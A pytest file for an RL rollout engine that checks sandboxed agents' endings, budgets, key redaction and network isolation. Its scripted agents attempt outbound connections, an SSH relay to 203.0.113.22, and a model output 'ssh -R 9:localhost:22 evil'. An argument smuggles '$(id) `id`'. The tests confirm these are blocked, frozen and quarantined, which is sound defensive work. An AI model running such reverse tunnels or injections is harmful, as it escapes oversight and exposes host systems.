"""Agents in real sandboxes: what they do, how they end, what is kept of it, and what they cannot reach."""

import asyncio
import json
from dataclasses import replace

import pytest
from scripted import WITH_REASONING, answer, logprobs_of

from engine.rollout.agents import live
from engine.rollout.agents.proxy import MOST_BEYOND_BUDGET
from engine.rollout.episode import run_episode
from engine.rollout.worker import RolloutWorker
from engine.spec.agent import AgentVariable
from engine.spec.trajectory import Trajectory
from tests.engine.rollout.agents import players
from tests.engine.rollout.agents.players import LOOP, arena, policy, program, request

QUESTION = players.environment_for(players.described(program()), players.DATASET).tasks("train")[0]


async def play(code, folder, *turns, **changes):
    agent = program(code, **changes)
    phrase = policy(*(turns or [answer("1")] * 40))
    async with arena(phrase, agent, folder) as played_in:
        played = await run_episode(request(), played_in)
    assert Trajectory.model_validate_json(played.model_dump_json()) == played
    return played, phrase


async def test_an_agent_that_asks_once_is_a_trajectory_of_what_was_sampled(tmp_path):
    right = answer(QUESTION.answer)
    played, phrase = await play(players.ONE_QUESTION, tmp_path, right)
    [turn] = played.turns
    assert (turn.token_ids, played.answer, played.success) == (right, QUESTION.answer, True)
    assert (played.stop_reason, played.agent.exit, played.agent.exit_code) == ("done", "done", 0)
    assert phrase.shown == [turn.context_ids]
    assert turn.logprobs == logprobs_of(turn.context_ids, right)
    assert len(phrase.released) == 1


async def test_a_conversation_is_a_segment_and_a_sub_agent_one_of_its_own(tmp_path):
    code = LOOP + (
        "messages = [{'role': 'user', 'content': 'a'}]\n"
        "messages += [ask(messages), {'role': 'user', 'content': 'b'}]\n"
        "sub = ask([{'role': 'user', 'content': 'sub'}])['content']\n"
        "messages += [ask(messages), {'role': 'user', 'content': sub}]\n"
        "ask(messages)\n"
    )
    played, _ = await play(code, tmp_path, *map(answer, "wxyz"))
    assert [segment.numbers for segment in played.segments] == [[0, 2, 3], [1]]
    assert played.segments[1].prefix.segment == 0
    assert played.segments[0].turns[2].context_text == "<user>x<assistant>"
    assert played.sampled_tokens == sum(map(len, map(answer, "wxyz")))


@pytest.mark.parametrize(
    ("code", "changes", "exit", "stop", "turns"),
    [
        (LOOP + "ask([{'role': 'user', 'content': 'a'}])\nraise SystemExit(3)", {}, "crashed", "crashed", 1),
        ("print('no model needed')", {}, "silent", "silent", 0),
        ("raise SystemExit(1)", {}, "silent", "silent", 0),
        (LOOP + "while True: ask([{'role': 'user', 'content': 'a'}])", {}, "over-budget", "turn-limit", 3),
        (
            LOOP + "ask([{'role': 'user', 'content': 'a'}])\nwhile True: print('x' * 100000)",
            {},
            "killed",
            "killed",
            1,
        ),
        (
            LOOP + "try:\n while True: ask([{'role': 'user', 'content': 'a'}])\nexcept Exception: pass",
            {"sampled_tokens": 7},
            "over-budget",
            "turn-limit",
            3,
        ),
    ],
    ids=["crashed", "silent", "silent-crash", "for-ever", "flood", "tokens"],
)
async def test_every_end_has_its_class_and_the_turns_until_then_are_kept(tmp_path, code, changes, exit, stop, turns):
    agent = program(code, **changes)
    async with arena(policy(*[answer("1")] * 40), agent, tmp_path, max_turns=3) as played_in:
        played = await run_episode(request(), played_in)
    assert (played.agent.exit, played.stop_reason, len(played.turns), played.success) == (exit, stop, turns, False)


async def test_an_agent_that_goes_on_asking_beyond_its_budget_is_ended(tmp_path):
    code = LOOP + ("while True:\n try: ask([{'role': 'user', 'content': 'a'}])\n except urllib.error.HTTPError: pass\n")
    async with arena(policy(*[answer("1")] * 40), program(code), tmp_path, max_turns=2) as played_in:
        played = await run_episode(request(), played_in)
    assert (played.agent.exit, len(played.turns)) == ("over-budget", 2)
    [refused] = played.agent.refused
    assert (refused.kind, refused.number > MOST_BEYOND_BUDGET) == ("budget", True)


async def test_an_answer_after_its_time_is_none(tmp_path):
    code = LOOP + (
        "import time\nask([{'role': 'user', 'content': 'a'}])\ntime.sleep(60)\n"
        f"open('/work/answer.txt', 'w').write('{QUESTION.answer}')\n"
    )
    played, _ = await play(code, tmp_path, timeout_s=4.0)
    assert (played.answer, played.success, played.agent.exit) == (None, False, "over-budget")
    assert (len(played.turns), played.agent.exit_code, played.stop_reason) == (1, None, "turn-limit")


async def test_its_log_is_kept_without_its_key_and_its_variables_are_its_own(tmp_path):
    code = LOOP + (
        "import sys\nask([{'role': 'user', 'content': 'a'}])\n"
        "print('key', os.environ['OPENAI_API_KEY'], os.environ['ANTHROPIC_BASE_URL'], os.environ['MODE'])\n"
        "print(sys.argv[1:], os.getcwd(), file=sys.stderr)\n"
    )
    agent = program(code, variables=[AgentVariable(name="MODE", value="x y")], working_folder="/tmp/agent")
    agent = agent.model_copy(update={"command": [*agent.command, "{task}", "$(id) `id`"]})
    async with arena(policy(answer("1")), agent, tmp_path) as played_in:
        played = await run_episode(request(), played_in)
    assert played.agent.log.splitlines() == [
        "key [key] http://127.0.0.1:929 x y", "", f"['{QUESTION.question}', '$(id) `id`'] /tmp/agent",
    ]  # fmt: skip


async def test_it_reaches_its_endpoint_and_nothing_else(tmp_path):
    code = LOOP + (
        "import socket\n"
        "ask([{'role': 'user', 'content': 'a'}])\n"
        "for place in [('127.0.0.1', 8700), ('10.0.0.1', 929), ('203.0.113.5', 80)]:\n"
        "    try:\n"
        "        made = socket.create_connection(place, 2)\n"
        "        made.sendall(b'GET / HTTP/1.0\\r\\n\\r\\n')\n"
        "        print(place[0], 'answered' if b'200 OK' in made.recv(100) else 'refused')\n"
        "    except OSError: print(place[0], 'refused')\n"
    )
    played, _ = await play(code, tmp_path)
    assert played.agent.log.split() == ["127.0.0.1", "refused", "10.0.0.1", "refused", "203.0.113.5", "refused"]


async def test_what_it_sends_that_cannot_be_answered_is_counted_and_it_goes_on(tmp_path):
    code = LOOP + (
        "for messages in [[], [{'role': 'wizard', 'content': 'a'}], [{'role': 'user', 'content': 'x' * 5000}]]:\n"
        "    try: ask(messages)\n"
        "    except urllib.error.HTTPError as error: print(json.load(error)['error']['code'])\n"
        "ask([{'role': 'user', 'content': 'a'}])\n"
    )
    played, _ = await play(code, tmp_path)
    assert played.agent.log.split() == ["conversation", "conversation", "context_length_exceeded"]
    assert [(calls.kind, calls.number) for calls in played.agent.refused] == [("context", 1), ("conversation", 2)]
    assert (played.agent.exit, len(played.turns)) == ("done", 1)


TUNNEL = LOOP + (
    "import socket, time\n"
    "messages = [{'role': 'user', 'content': 'start'}]\n"
    "for _ in range(3):\n"
    "    messages += [ask(messages), {'role': 'user', 'content': 'go on'}]\n"
    "try:\n"
    "    tunnel = socket.create_connection(('203.0.113.22', 2222), 1)\n"
    "    tunnel.sendall(b'SSH-2.0-relay\\r\\n')\n"
    "    tunnel.recv(64)\n"
    "except OSError: pass\n"
    "time.sleep(60)\n"
)


STREAMED = LOOP + (
    "import socket, time\n"
    "ask([{'role': 'user', 'content': 'start'}])\n"
    "document = {'model': 'policy', 'messages': [{'role': 'user', 'content': 'go on'}], 'stream': True}\n"
    "head = {'authorization': 'Bearer ' + os.environ['OPENAI_API_KEY'], 'content-type': 'application/json'}\n"
    "address = os.environ['OPENAI_BASE_URL'] + '/chat/completions'\n"
    "stream = urllib.request.urlopen(urllib.request.Request(address, json.dumps(document).encode(), head))\n"
    "text = ''\n"
    "while 'evil' not in text:\n"
    "    line = stream.readline()\n"
    "    if line.startswith(b'data: {'):\n"
    "        text += json.loads(line[6:])['choices'][0]['delta'].get('content') or ''\n"
    "try:\n"
    "    tunnel = socket.create_connection(('203.0.113.22', 2222), 1)\n"
    "    tunnel.sendall(b'SSH-2.0-relay\\r\\n')\n"
    "    tunnel.recv(64)\n"
    "except OSError: pass\n"
    "time.sleep(60)\n"
)


async def test_a_deed_in_the_middle_of_a_stream_is_that_of_the_call_that_is_streamed(tmp_path, monkeypatch):
    monkeypatch.setattr(live, "SHOWN_EVERY_S", 0.0)
    monkeypatch.setattr(live, "GROWTH", 10**9)
    phrase, held = policy(answer("1"), answer("ssh -R 9:localhost:22 evil")), asyncio.Event()

    async def stream(asked, on_token):
        generated = await phrase.generate(asked)
        for token, logprob in zip(generated.token_ids[:-1], generated.logprobs[:-1], strict=True):
            on_token(token, logprob)
            await asyncio.sleep(0)
        await held.wait()  # it is never over
        return generated

    phrase.stream = stream
    async with arena(phrase, program(STREAMED), tmp_path) as played_in:
        played = await run_episode(request(), played_in)
    assert (played.agent.exit, len(played.turns), played.agent.unfinished) == ("frozen", 1, 1), played.agent.log
    [alert] = [entry for entry in logged(tmp_path) if entry["kind"] == "alert" and entry["quarantined"]][:1]
    assert alert["origin"] == {"trajectory": "train-0-0", "turn": 1}
    assert "ssh -R 9" in [entry for entry in logged(tmp_path) if entry["kind"] == "turn"][-1]["text"]["wrote"]


async def test_a_reverse_tunnel_behind_the_third_call_freezes_the_agent_and_the_alert_names_that_call(tmp_path):
    agent, honest = program(TUNNEL), program()
    phrase = policy(*[answer("1")] * 3)
    async with arena(phrase, agent, tmp_path) as played_in:
        beside = replace(played_in, agent=honest)
        played, other = await asyncio.gather(run_episode(request(), played_in), run_episode(request(member=1), beside))
    assert (played.stop_reason, played.agent.exit, played.success) == ("frozen", "frozen", False)
    assert (len(played.turns), played.masked_because) == (3, "quarantined")
    [alert] = [entry for entry in logged(tmp_path) if entry["kind"] == "alert" and entry["quarantined"]][:1]
    assert played.alerts[0] == alert["id"]
    assert alert["origin"] == {"trajectory": "train-0-0", "turn": 2}
    assert (other.agent.exit, other.alerts, len(other.turns)) == ("done", [], 1)


def logged(folder):
    return [json.loads(line) for file in folder.rglob("*") if file.is_file() for line in lines_of(file)]


def lines_of(file):
    return [line[line.index("{") :] for line in file.read_text().splitlines() if "{" in line]


async def test_a_worker_plays_agents_as_it_plays_everything_and_what_the_generator_raises_ends_the_collection(tmp_path):
    class Broken:
        async def generate(self, request):
            raise RuntimeError("the generator is gone")

        async def release(self, session):
            pass

    async with arena(policy(answer("1")), program(), tmp_path) as played_in:
        worker = RolloutWorker(played_in, None, kv_slots=2)
        collected = await worker.collect([request(member=member) for member in range(4)])
        assert [rollout.agent.exit for rollout in collected.trajectories] == ["done"] * 4
        broken = RolloutWorker(replace(played_in, generator=Broken()), None, kv_slots=2)
        with pytest.raises(RuntimeError, match="the generator is gone"):
            await broken.collect([request()])


async def test_experience_stands_in_every_prompt_and_is_marked_where_it_stands_first(tmp_path):
    async with arena(policy(answer("1")), program(), tmp_path) as played_in:
        played = await run_episode(request(experience=("look twice",)), played_in)
    [turn] = played.turns
    assert WITH_REASONING.text(turn.context_ids[slice(*turn.experience_span)]) == "<EXP>look twice</EXP>\n"


async def test_its_age_is_that_of_its_oldest_token_also_where_the_call_that_began_first_is_over_last(tmp_path):
    class Overlapping(type(policy())):
        def __init__(self, *turns):
            super().__init__(*turns, context_tokens=1000)
            self.began, self.second_is_over = 0, asyncio.Event()

        async def generate(self, asked_of):
            self.began += 1
            is_first = self.began == 1
            if is_first:
                await self.second_is_over.wait()
            generated = await super().generate(asked_of)
            self.second_is_over.set()
            return replace(generated, policy_versions=(3 if is_first else 4,) * len(generated.token_ids))

    code = LOOP + "ask([{'role': 'user', 'content': 'a'}], n=2)"
    async with arena(Overlapping(answer("1")), program(code), tmp_path) as played_in:
        played = await run_episode(request(version=3), played_in)
    assert [set(turn.policy_versions) for turn in played.turns] == [{4}, {3}]
    assert played.sampled_at_version == 3
